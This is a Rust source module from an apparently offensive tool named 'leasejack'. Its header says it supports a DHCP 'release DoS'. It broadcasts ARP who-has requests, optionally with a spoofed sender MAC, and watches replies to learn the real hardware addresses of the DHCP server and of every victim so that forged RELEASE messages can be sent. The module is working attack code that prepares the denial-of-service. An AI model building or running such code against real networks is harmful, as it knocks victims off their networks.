//! Hardware-address learning over ARP
//!
//! The release DoS needs the real MAC of the server and of every victim
//! before it can forge a RELEASE. It broadcasts a who-has, then watches ARP
//! traffic for a frame whose sender protocol address is the target.

use leasejack_core::{
    next_packet, AttackContext, CaptureTimeout, Captured, Error, MacAddr, ProtocolFilter,
    ProtocolId, Result,
};
use leasejack_packet::{ArpPacket, EtherType, EthernetFrame, PacketBuilder};
use std::net::Ipv4Addr;
use std::time::Duration;
use tracing::{debug, error, warn};

const SENDER_IP_AT: usize = EthernetFrame::HEADER_SIZE + ArpPacket::SENDER_IP_OFFSET;

/// Bounds on one `learn_mac` call
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LearnBudget {
    /// Captures attempted before giving up
    pub attempts: u32,
    /// Pause before each capture
    pub interval: Duration,
    /// Longest wait of a single capture
    pub timeout: Duration,
}

impl Default for LearnBudget {
    fn default() -> Self {
        Self {
            attempts: 500,
            interval: Duration::from_millis(800),
            timeout: Duration::from_secs(5),
        }
    }
}

/// Hardware address our own requests carry on the interface named
/// `interface`, so their echo can be ignored
fn own_mac(ctx: &AttackContext, forged: MacAddr, spoof: bool, interface: &str) -> Option<MacAddr> {
    if spoof {
        Some(forged)
    } else {
        ctx.interfaces
            .iter()
            .find(|iface| iface.name == interface)
            .map(|iface| iface.mac_address)
    }
}

/// Broadcast a who-has for `target_ip` on every interface.
///
/// The sender protocol address is `client_ip`; the sender hardware address
/// is `forged` when spoofing, otherwise the interface's own MAC. The first
/// failure aborts.
pub fn send_arp_request(
    ctx: &AttackContext,
    forged: MacAddr,
    spoof: bool,
    client_ip: Ipv4Addr,
    target_ip: Ipv4Addr,
) -> Result<()> {
    for iface in &ctx.interfaces {
        let sender_hw = if spoof { forged } else { iface.mac_address };

        let frame = PacketBuilder::new()
            .ethernet(sender_hw, MacAddr::broadcast(), EtherType::ARP)
            .arp(ArpPacket::request(sender_hw, client_ip, target_ip))
            .build()
            .and_then(|frame| {
                iface.send_raw(&frame)?;
                Ok(frame)
            });

        match frame {
            Ok(frame) => {
                ctx.record_sent(ProtocolId::ARP, iface, frame.len());
                debug!(interface = %iface.name, target = %target_ip, "ARP request sent");
            }
            Err(e) => {
                error!(interface = %iface.name, target = %target_ip, error = %e, "Failed to send ARP request");
                ctx.stats.increment_errors();
                return Err(e);
            }
        }
    }
    Ok(())
}

/// Wait for an ARP frame sent by `target_ip` and return its source MAC.
///
/// Our own frames and frames from other addresses are skipped. Fails with
/// `ArpTimeout` when a capture times out or the attempts run out, and with
/// `Cancelled` as soon as the attack is stopped.
pub fn learn_mac(
    ctx: &AttackContext,
    forged: MacAddr,
    spoof: bool,
    target_ip: Ipv4Addr,
    budget: LearnBudget,
) -> Result<MacAddr> {
    for attempt in 0..budget.attempts {
        ctx.pause(budget.interval)?;

        let captured = next_packet(
            &ctx.interfaces,
            ProtocolFilter::Arp,
            &ctx.running,
            CaptureTimeout::After(budget.timeout),
        )?;

        let packet = match captured {
            Captured::Packet(packet) => packet,
            Captured::Cancelled => return Err(Error::Cancelled),
            Captured::Timeout => {
                warn!(target = %target_ip, attempt, "No ARP traffic before capture timeout");
                return Err(Error::ArpTimeout(target_ip));
            }
        };
        ctx.stats.increment_packets_received();

        let data = packet.data();
        let Some(sender_ip) = data.get(SENDER_IP_AT..SENDER_IP_AT + 4) else {
            debug!(len = data.len(), "Skipping short ARP frame");
            continue;
        };
        let Some(source) = MacAddr::from_slice(&data[6..12]) else {
            continue;
        };

        if Some(source) == own_mac(ctx, forged, spoof, &packet.interface) {
            continue;
        }
        if sender_ip != target_ip.octets() {
            continue;
        }

        debug!(target = %target_ip, mac = %source, attempt, "Learned hardware address");
        return Ok(source);
    }

    warn!(target = %target_ip, attempts = budget.attempts, "ARP learning budget exhausted");
    Err(Error::ArpTimeout(target_ip))
}
